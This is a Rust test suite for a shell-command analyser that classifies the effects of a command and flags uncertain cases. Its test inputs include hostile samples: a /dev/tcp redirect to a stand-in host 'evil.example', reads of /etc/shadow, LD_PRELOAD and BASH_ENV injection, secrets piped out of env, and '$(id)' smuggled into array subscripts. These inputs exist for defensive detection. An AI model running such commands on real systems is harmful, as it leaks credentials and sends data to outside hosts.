use super::testing::{analysis, with_limits};
use super::{Analysis, SimpleCommand};
use crate::effect::{Action, CodeOrigin, Coverage, Effect, Mark, Names, Target};
use crate::syntax::Limits;
use crate::word::Word;
use proptest::prelude::*;

fn shown(effect: &Effect) -> String {
    let target = match &effect.target {
        Target::Path(path) => match &path.names {
            Names::Exact(path) => path.clone(),
            Names::Glob(pattern) => format!("glob {pattern}"),
            Names::Below(path) => format!("below {path}"),
            Names::Unknown(_) => "?".to_owned(),
        },
        Target::Program(program) => program.name.clone(),
        Target::Host(host) => host.name.clone().unwrap_or_default(),
        Target::Text(_) => String::new(),
    };
    format!("{:?} {target}", effect.action).to_lowercase().trim().to_owned()
}

/// All effects but `run`, as text.
fn effects(source: &str) -> Vec<String> {
    analysis(source).effects().filter(|effect| effect.action != Action::Run).map(shown).collect()
}

/// The commands as text, a `?` for what is not known.
fn commands(source: &str) -> Vec<String> {
    let line = |command: &SimpleCommand| {
        let words = command.words.iter().map(|word| match word {
            Word::Known(text) => text.clone(),
            Word::Glob(pattern) => format!("glob:{pattern}"),
            Word::Below { directory, .. } => format!("below:{directory}"),
            Word::Partly { prefix, .. } => format!("{prefix}?"),
            Word::Unknown { .. } => "?".to_owned(),
        });
        words.collect::<Vec<_>>().join(" ")
    };
    analysis(source).commands.iter().map(line).filter(|line| !line.is_empty()).collect()
}

fn partial(analysis: &Analysis) -> bool {
    analysis.coverage == Coverage::Partial
}

#[test]
fn redirections_are_effects() {
    let cases: [(&str, &[&str]); 12] = [
        ("p >out", &["write /work/out"]),
        ("p >>/x/out 2>&1", &["write /x/out"]),
        ("p <in", &["read /work/in"]),
        ("p <>both", &["read /work/both", "write /work/both"]),
        ("p &>out", &["write /work/out"]),
        ("p >&out", &["write /work/out"]),
        ("p {fd}>out", &["write /work/out"]),
        ("p >/dev/null 2>/dev/stderr </dev/null", &[]),
        ("p >/dev/tcp/evil.example/80", &["connect evil.example", "send evil.example"]),
        ("{ p; q; } >out", &["write /work/out"]),
        ("p >$x", &["opaque"]),
        ("p >~/x", &["write /home/me/x"]),
    ];
    for (source, expected) in cases {
        assert_eq!(effects(source), expected, "{source}");
    }
}

#[test]
fn relative_paths_follow_cd() {
    let cases: [(&str, &[&str]); 9] = [
        ("cd sub && p >x", &["write /work/sub/x"]),
        ("cd sub || exit; p >x", &["write /work/sub/x"]),
        ("set -e; cd sub; p >x", &["write /work/sub/x"]),
        // It may fail, and then the next command runs here.
        ("cd sub; p >x", &["write /work/sub/x", "write /work/x"]),
        ("(cd sub && p); q >x", &["write /work/x"]),
        ("cd .. && p >x", &["write /x"]),
        ("cd && p >x", &["write /home/me/x"]),
        ("cd \"$x\" && p >x", &["write x"]),
        ("pushd a && popd && p >x", &["write /work/x"]),
    ];
    for (source, expected) in cases {
        assert_eq!(effects(source), expected, "{source}");
    }
}

#[test]
fn what_is_assigned_is_known_later() {
    let cases: [(&str, &[&str]); 10] = [
        ("x=a; p $x", &["p a"]),
        ("x='a b'; p $x \"$x\"", &["p a b a b"]),
        ("p $UNKNOWN", &["p ?"]),
        ("p out-$UNKNOWN", &["p out-?"]),
        ("for f in *.txt; do p \"$f\" \"${f%.txt}.md\"; done", &["p glob:*.txt glob:*.md"]),
        ("for x in a b; do p $x; done", &["p a", "p b"]),
        ("x=1; q && x=2; p $x", &["q", "p ?"]),
        ("f() { p \"$2\"; }; f a b", &["f a b", "p b"]),
        ("x=$(q); p \"$x\"", &["q", "p ?"]),
        ("set -- a b; shift; p \"$@\"", &["set -- a b", "shift", "p b"]),
    ];
    for (source, expected) in cases {
        assert_eq!(commands(source), expected, "{source}");
    }
}

#[test]
fn the_environment_can_change_what_runs() {
    for source in [
        "LD_PRELOAD=x p",
        "export BASH_ENV=x; p",
        "PATH=x:$PATH; p",
        "GIT_SSH_COMMAND=x p",
        "read PATH; p",
        // Any variable may be heeded.
        "FOO=x p",
        "export FOO=x; p",
        "FOO=x; export FOO; p",
        "set -a; FOO=x; p",
        "env FOO=x p",
        "FOO=x eval p",
        "f() { p; }; FOO=x f",
        "FOO=x command p",
        "P_ROOT=x; p",
        "declare -x FOO=x; sh -c p",
    ] {
        let analysis = analysis(source);
        assert!(analysis.effects().any(|effect| effect.marks.contains(&Mark::Environment)), "{source}");
        assert!(partial(&analysis), "{source}");
    }
    for source in [
        "LANG=C p",
        "FOO=x; p",
        "FOO=x echo",
        "export FOO=x",
        "for f in a b; do p $f; done",
        "export RUST_LOG=debug; p",
        "PAGER=cat p",
        "IFS= read -r x",
    ] {
        assert!(!partial(&analysis(source)), "{source}");
    }
}

#[test]
fn programs_by_path() {
    for source in ["/bin/p", "/usr/bin/p", "/proc/self/root/usr/bin/p", "/bin//p"] {
        assert!(!partial(&analysis(source)), "{source}");
    }
    for source in ["./p", "/tmp/p", "/usr/bin/../../tmp/p", "../p"] {
        let analysis = analysis(source);
        let file =
            |effect: &Effect| matches!(&effect.target, Target::Program(program) if program.origin == CodeOrigin::File);
        assert!(analysis.effects().any(file) && partial(&analysis), "{source}");
    }
    assert_eq!(commands("/lib64/ld-linux-x86-64.so.2 /bin/p a"), ["/lib64/ld-linux-x86-64.so.2 /bin/p a", "/bin/p a"]);
    assert_eq!(commands("busybox p a"), ["busybox p a", "p a"]);
}

#[test]
fn what_is_not_known_is_partial() {
    let sources = [
        "$x",
        "$(q)",
        "eval $x",
        "eval \"$(q)\"",
        "source ./x",
        ". x",
        "p 'unfinished",
        "f() { f; }; f",
        "alias q=p; q",
        "shopt -s expand_aliases",
        "trap \"$x\" EXIT",
        "declare -n x=y",
        "x=$UNKNOWN; ((x))",
        "[[ $UNKNOWN -eq 1 ]]",
        "p \0",
        "enable -f x y",
        "*",
    ];
    for source in sources {
        assert!(partial(&analysis(source)), "{source}");
    }
}

#[test]
fn work_is_bounded() {
    let nested = "for a in {1..60}; do for b in {1..60}; do for c in {1..60}; do p $a$b$c; done; done; done";
    let analysis = with_limits(nested, Limits::default());
    assert!(partial(&analysis) && analysis.commands.len() < 10_000);
    let many = "p;".repeat(100_000);
    assert!(partial(&with_limits(&many, Limits::default())));
    assert!(partial(&with_limits(&"{a,b}".repeat(40), Limits::default())));
    let doubling: String = (0..40).map(|number| format!("f{}() {{ f{number}; f{number}; }}; ", number + 1)).collect();
    assert!(partial(&with_limits(&format!("f0() {{ p; }}; {doubling} f40"), Limits::default())));
    let long = format!("x=aaaaaaaa; {} p $x", "x=$x$x; ".repeat(40));
    assert!(!with_limits(&long, Limits::default()).commands.is_empty());
}

/// A kind of command, and how to make one of this size.
type Shape = (&'static str, fn(usize) -> String);

/// Something for each number, side by side.
fn each(count: usize, piece: impl Fn(usize) -> String) -> String {
    (0..count).map(piece).collect()
}

#[test]
fn work_grows_with_the_length_and_not_faster() {
    let limits = Limits { bytes: usize::MAX, nodes: usize::MAX, steps: usize::MAX, ..Limits::default() };
    let shapes: [Shape; 19] = [
        ("names", |count| format!("rm {}", each(count, |number| format!("f{number} ")))),
        ("copies", |count| format!("cp {} d", each(count, |number| format!("f{number} ")))),
        ("destinations", |count| {
            format!("cp {} {}", "-t d ".repeat(count), each(count, |number| format!("f{number} ")))
        }),
        ("patterns", |count| format!("rm {}", each(count, |number| format!("f{number}* ")))),
        ("unknown names", |count| format!("rm {}", each(count, |number| format!("f{number}$x ")))),
        ("unknown options", |count| format!("ls {}", each(count, |number| format!("--o{number} ")))),
        ("options", |count| format!("sort {} f", "-k1 ".repeat(count))),
        ("settings", |count| format!("git {} status", "-c user.name=x ".repeat(count))),
        ("values", |count| format!("tar -c {}", each(count, |number| format!("-f a{number} ")))),
        ("redirections", |count| format!("ls {}", each(count, |number| format!(">f{number} ")))),
        ("assignments", |count| each(count, |number| format!("v{number}=1 "))),
        ("elements", |count| each(count, |number| format!("a[{number}]=1 "))),
        ("lists", |count| format!("a=({}); echo {}", "x ".repeat(count), "${a[@]} ".repeat(count))),
        ("arguments", |count| format!("set -- {}; echo {}", "x ".repeat(count), "$@ ".repeat(count))),
        ("open braces", |count| format!("echo {}", "{".repeat(count))),
        ("braces", |count| "echo {a,b}{c,d}; ".repeat(count)),
        ("tests of find", |count| format!("find {} {}", "a ".repeat(count), "-name x ".repeat(count))),
        ("commands of find", |count| format!("find {} {}", "a ".repeat(count), "-exec ls ; ".repeat(count))),
        ("branches", |count| format!("{}{}", each(50, |number| format!("v{number}=1; ")), "p || x=1; ".repeat(count))),
    ];
    for (name, shape) in shapes {
        let steps = |count| crate::work::counted(|| drop(with_limits(&shape(count), limits)));
        let (small, large) = (steps(300), steps(3_000));
        assert!(large <= small.max(20_000) * 12, "{name}: {small} and {large}");
    }
}

#[test]
fn words_count_as_commands_do() {
    let limits = Limits { steps: 10, ..Limits::default() };
    assert!(!partial(&with_limits(&format!("p {}", "a ".repeat(100)), limits)));
    assert!(partial(&with_limits(&format!("p {}", "a ".repeat(200)), limits)));
    let appended = format!("x={}; {} p", "a".repeat(20_000), "x+=a; ".repeat(3));
    assert!(partial(&with_limits(&appended, limits)));
}

#[test]
fn deep_nesting_fits_a_small_stack() {
    let shapes = [
        ("(", ")"),
        ("$(", ")"),
        ("{ ", ";}"),
        ("if p; then ", "; fi"),
        ("p \"$(", ")\""),
        ("for x in a; do ", "; done"),
        ("eval \"$(", ")\""),
    ];
    std::thread::Builder::new()
        .stack_size(2 << 20)
        .spawn(move || {
            for (open, close) in shapes {
                for count in [10, 25, 55, 200] {
                    analysis(&format!("{}p{}", open.repeat(count), close.repeat(count)));
                }
            }
            let mut source = "p".to_owned();
            for _ in 0..10 {
                source = format!("eval '{}'", source.replace('\'', "'\\''"));
            }
            analysis(&source);
        })
        .unwrap()
        .join()
        .unwrap();
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(600))]

    #[test]
    fn any_text_is_analysed_without_panic(source in "([a-z$(){}\"'`;|&<>= \n\\\\*~!\\[\\]#0-9]|p |x=|\\$x|\\$\\(|for x in a; do |done){0,30}") {
        analysis(&source);
    }
}

#[test]
fn numbers_that_programs_print_are_safe_in_arithmetic() {
    let cases = [
        ("for i in $(seq 1 10); do p $((i * i)); done", false),
        ("p $(( $(date +%s) - 86400 ))", false),
        ("n=$(wc -l < a); p $((n / 2))", false),
        ("p $(( $(date -d 2025-12-25 +%s) - $(date +%s) ))", false),
        ("p $((2#101 + 0x1f))", false),
        ("n=$(nproc); [[ $n -gt 2 ]] && p", false),
        ("[ $(id -u) -eq 0 ] && p", false),
        ("[ \"$(uname)\" = Linux ] && p", false),
        ("[ -f *.txt ] && p", false),
        ("for f in *; do [ -f \"$f\" ] && p; done", false),
        // Files called `-v` and `a[$(id)]`.
        ("[ * = x ] && p", true),
        ("[ ?? 'a[$(id)]' ] && p", true),
        ("[ -v 'a[$(id)]' ] && p", true),
        // Only digits: no option, no other directory.
        ("touch out-$(date +%s)", false),
        // What a file holds may be `x[$(id)]`.
        ("n=$(cat a); p $((n / 2))", true),
        ("for i in $(seq -f x[%g] 1 2); do p $((i)); done", true),
        ("for i in [0-9]*; do p $((i)); done", true),
    ];
    for (source, unclear) in cases {
        assert_eq!(partial(&analysis(source)), unclear, "{source}");
    }
}

#[test]
fn what_a_program_printed_may_have_been_nothing() {
    assert_eq!(effects("n=$(wc -l < a); p ${n:-$(cat /etc/shadow)}"), ["read /work/a", "read /etc/shadow"]);
    assert!(effects("n=$(wc -l < a); cat ${n:-/etc/shadow}").contains(&"opaque".to_owned()));
}

#[test]
fn builtins_that_are_only_asked_to_print() {
    let cases = [
        ("history", false),
        ("history 20", false),
        ("history -r a", true),
        ("unset HISTFILE", true),
        ("unset x", false),
        ("hash", false),
        ("hash -p /tmp/x ls", true),
        ("compgen -c", false),
        ("compgen -C x", true),
        ("complete -p", false),
        ("complete -C x ls", true),
        ("bind -P", false),
        ("bind -x '\"a\": b'", true),
        ("enable -a", false),
        ("enable -n test", true),
        ("enable -f ./x x", true),
    ];
    for (source, unclear) in cases {
        assert_eq!(partial(&analysis(source)), unclear, "{source}");
    }
}

#[test]
fn ansi_quotes_count_in_patterns_between_double_quotes() {
    assert_eq!(commands("x=a:b; p \"${x//:/$'\\n'}\""), ["p a\nb"]);
    assert!(partial(&analysis("p \"${x:-$'a'}\"")));
    assert!(partial(&analysis("p \"${x//:/$'}'}\"")));
}

#[test]
fn a_word_between_quotes_is_one_word() {
    assert_eq!(effects("grep \"$(date +%F)\" log"), ["read /work/log"]);
    assert_eq!(effects("today=$(date +%F); grep \"$today\" log"), ["read /work/log"]);
    assert!(effects("cat .env$(wc -l < a)").contains(&"read glob /work/.env*".to_owned()));
}

#[test]
fn shells_that_are_started_in_odd_ways() {
    let cases = [
        ("sh -c date", false),
        ("! sh -c date", true),
        ("! grep -q a b", false),
        ("coproc sh -c date", true),
        ("echo date | sh", true),
        ("printf date | /bin/bash -s", true),
        ("sh <<< date", true),
        ("bash < <(echo date)", true),
        ("bash <<'E'\ndate\nE", false),
        ("{sh,-c,date}", true),
        ("{,sh,-c,date}", true),
        ("echo {a,b}", false),
    ];
    for (source, unclear) in cases {
        assert_eq!(partial(&analysis(source)), unclear, "{source}");
    }
}

#[test]
fn what_a_name_will_stand_for_is_looked_at_when_it_is_defined() {
    assert!(effects("alias x='cat /etc/shadow'").contains(&"read /etc/shadow".to_owned()));
    assert!(effects("alias ll='ls -l /a'").contains(&"list /a".to_owned()));
    assert!(effects("ls() { cat /etc/shadow; }").contains(&"read /etc/shadow".to_owned()));
    assert!(partial(&analysis("f() { cat \"$1\"; }")));
    assert_eq!(effects("f() { cat \"$1\"; }; f a"), ["read /work/a"]);
    assert!(partial(&analysis("CDPATH=/ cd etc; cat shadow")));
}

#[test]
fn files_that_are_emptied() {
    for source in [": > a", "true > a", "> a", "cat /dev/null > a", "echo -n > a", "printf '' > a"] {
        assert_eq!(effects(source), ["delete /work/a"], "{source}");
    }
    for source in ["cp /dev/null a", "tee a < /dev/null", "dd if=/dev/null of=a", "find . -exec cp /dev/null {} \\;"] {
        assert!(partial(&analysis(source)), "{source}");
    }
    assert_eq!(effects("echo > a"), ["write /work/a"]);
    assert_eq!(effects("exec > a"), ["write /work/a"]);
}

#[test]
fn the_environment_holds_secrets() {
    let cases = [
        ("env", true),
        ("env | sort", true),
        ("env | wc -l", false),
        ("env | cut -d= -f1", false),
        ("env | base64", true),
        ("env | cut -d= -f2", true),
        ("env | while read -r x; do echo \"$x\"; done", true),
        ("env -i", true),
        ("set", true),
        ("set -e", false),
        ("declare -x", true),
        ("export A", false),
        ("env | grep -v LANG", true),
        ("env | grep -E 'A|B'", true),
        ("env | grep LANG", false),
        ("env | grep -i pass", true),
        ("env | grep AWS", true),
        ("env > a", true),
        ("env | tee a", true),
        ("export -p > a", true),
        ("declare -p API_KEY", true),
        ("declare -p x", false),
        ("x=API_KEY; echo ${!x}", true),
        ("echo $DATABASE_URL", true),
        ("echo $DB_PASS $PWD", true),
        ("echo $PWD $OLDPWD", false),
        ("ps auxe", true),
        ("ps -E", true),
        ("ps aux", false),
        ("ps -ef", false),
        ("ps -p $pid", false),
        ("ps -C node -u peter", false),
    ];
    for (source, unclear) in cases {
        assert_eq!(partial(&analysis(source)), unclear, "{source}");
    }
}

/// Commands that must be judged although the shell is not expected to reach them.
#[test]
fn what_is_written_is_judged() {
    for source in [
        "exit; rm x",
        "exit 3 <&7; rm x",
        "{ exit; } <missing; rm x",
        "for i in a; do break 2>&6; rm x; done",
        "for i in; do rm x; done",
        "f() { return; rm x; }; f",
        "f() { rm x; }; f() { :; }; f",
        "f() { g() { rm x; }; }",
        "exec p; rm x",
        "set -e; false; rm x",
        "while :; do :; done; rm x",
        "false && rm x",
        "true || rm x",
        "if true; then :; else rm x; fi",
        "case a in b) rm x;; esac",
        "trap 'trap \"rm x\" EXIT' EXIT",
        "y=1; echo ${y:-$(rm x)}",
        "y=; echo ${y:+$(rm x)}",
    ] {
        assert!(commands(source).iter().any(|command| command == "rm x"), "{source}");
    }
}

/// The states in which a command may run.
#[test]
fn control_flow_adds_states() {
    let cases: [(&str, &[&str]); 9] = [
        ("cd sub || exit; rm x", &["delete /work/sub/x"]),
        ("cd sub || exit 1 2>&1; rm x", &["delete /work/sub/x", "delete /work/x"]),
        ("set -e; cd sub; rm x", &["delete /work/sub/x"]),
        ("set -e; { cd sub && :; }; rm x", &["delete /work/sub/x", "delete /work/x"]),
        ("set -e; f() { cd sub; rm x; }; f || :", &["delete /work/sub/x", "delete /work/x"]),
        ("{ set -e; } <a; cd sub; rm x", &["read /work/a", "delete /work/sub/x", "delete /work/x"]),
        ("{ cd /s || exit; } <a; rm x", &["read /work/a", "delete /s/x", "delete /work/x"]),
        ("n=$((3/$?)); cd /s\nrm x", &["delete /s/x", "delete /work/x"]),
        ("readonly y=1; y=2; cd /s || exit\nrm x", &["delete /s/x", "delete /work/x"]),
    ];
    for (source, expected) in cases {
        let mut found = effects(source);
        found.sort();
        let mut expected: Vec<&str> = expected.to_vec();
        expected.sort_unstable();
        assert_eq!(found, expected, "{source}");
    }
    for source in
        ["y=a; y=b <f; rm $y", "y=a; case $1 in 1) y=b;;& 2) :;; *) rm $y;; esac", "a=(x y); a=z; rm \"${a[@]}\""]
    {
        assert!(partial(&analysis(source)), "{source}");
    }
}

#[test]
fn only_plain_variables_are_assigned_to_in_silence() {
    for source in [
        "n=1; n=$((n+1))",
        "SECONDS=0; echo $((SECONDS+1))",
        "OPTIND=1",
        "LC_ALL=C.UTF-8 p",
        "TZ=Europe/Berlin p",
        "while IFS= read -r line; do echo \"$line\"; done",
        "declare -A m; m[key]=1; echo ${m[key]}",
        "declare -a l=(a b); echo \"${l[@]}\"",
        "printf -v out %s x",
        "printf '%s' -v",
        "trap 'rm y' EXIT",
    ] {
        assert!(!partial(&analysis(source)), "{source}: {:?}", analysis(source).doubts);
    }
    for source in [
        "SECONDS=x",
        "SECONDS+=1",
        "LC_ALL=./x p",
        "TZ=/x p",
        "IFS=,",
        "IFS=, p",
        "BASH_ANYTHING=1",
        "EPOCHSECONDS[1]=2",
        "declare -u v=1",
        "declare -n v=w",
        "declare -i v",
        "local -c v",
        "read -r HISTCMD",
        "mapfile -t MAILCHECK",
        "getopts a: OPTERR",
        "for LINENO in a; do :; done",
        "select GROUPS in a; do :; done",
        ": ${COMP_POINT:=1}",
        "v=PS3; read \"$v\"",
        "v=w; : ${!v:=1}",
        "p {DIRSTACK}>f",
        "coproc MAPFILE { p; }",
        "let TMPDIR=1",
        "(( OLDPWD = 1 ))",
        "unset OPTIND",
        "declare 'v=(1 2)'",
        "v=(1); declare -A v; v[key]=1",
        "echo $((unset_variable))",
        "echo ${u:v}",
        "echo ${@:v}",
        "echo ${l[v]}",
        "v=1; v=w let u=v",
        "echo $\"text\"",
        "printf \"$v\" x",
        "p >&'$(q)'",
        "trap 'p' USR2",
        "hash p",
        "hash -p f p",
        "ulimit -u 1",
        "read -t x v",
        "read -Z v",
        "f() { break; }; for i in 1; do f; done",
        "command_not_found_handle() { :; }",
    ] {
        assert!(partial(&analysis(source)), "{source}");
    }
}

#[test]
fn what_zsh_reads_differently_is_in_doubt() {
    let any = |source: &str| super::testing::in_dialect(source, crate::syntax::Dialect::Any);
    for source in [
        "p ${l[1]}",
        "l[1]=x",
        "l=(a b); rm $l",
        "v='a b'; p $v",
        "v='*'; p $v",
        "p $v[1]",
        "p \"$v[1]\"",
        "p $v:h",
        "p $#v",
        "p $+v",
        "p =q",
        "v==q",
        "p **/x",
        "path=(x)",
        "NULLCMD=x",
        "status=1",
        "hash p=x",
        "alias -g X=y",
        "p | read v; rm x$v",
        "chpwd() { p; }",
        "exit() { p; }",
        "[ \"$v\" -eq 2 ]",
        "exit $v",
        "printf %d \"$v\"",
        "set -f; p *",
        "v=1; p ${x:v}",
        "p <1-2>x",
        "p {$v,b}",
        "p $'\\C-a'",
        "p 'a' > f | sh",
        "v=a; p | v=b; rm $v",
        "v=a; p *.c; v=b\nrm $v",
        "command eval v=b; rm $v",
        "v=a; [ a == a ]; v=b\nrm $v",
        "p ${v^^}",
    ] {
        assert!(partial(&any(source)), "{source}");
    }
    for source in [
        "p \"$v\" x*",
        "v=a; p $v",
        "p {a,b}",
        "for i in 1 2; do p $i; done",
        "p HEAD~1 HEAD^ a==b",
        "[ \"$v\" = x ]",
        "v=1; echo $((v+1))",
        "p | while read -r v; do echo \"$v\"; done",
        "exit 1",
        "l=(a b); p \"${l[@]}\"",
        "p -v $PWD:/x",
    ] {
        assert!(!partial(&any(source)), "{source}: {:?}", any(source).doubts);
    }
}

/// What a substitution prints is only known if all of its commands are sure to run.
#[test]
fn output_that_may_be_missing_is_not_known() {
    for source in [
        "rm d/$(exit; echo x)",
        "rm d/$(cd sub || exit; echo x)",
        "rm d/$(echo x <f)",
        "rm d/$({ echo x; } 3<f)",
        "rm d/$(echo ${u?}; echo x)",
        "rm d/$(set -u; echo $u; echo x)",
        "rm d/$(pushd sub)",
        "rm d/$(cd -)",
        "rm d/$(trap -p)",
        "g() { unset v; }; f() { local v=a; g; rm d/$v; }; f",
        "v=a; f() { local v=b; echo $((1/u)); }; f; v=b\nrm d/$v",
        "shopt -s nocasematch; v=aA; rm d/${v//a/}",
        "v=é; rm d/${v:1}",
        "v=ab; w='b*'; rm d/${v%$w}",
        "v=ab; w='?'; rm d/${v/$w/}",
    ] {
        assert!(partial(&analysis(source)), "{source}");
    }
    for source in ["rm d/$(echo x)", "rm d/$(echo x 2>/dev/null)"] {
        let found = effects(source);
        assert_eq!(found, ["delete /work/d/x"], "{source}");
    }
}
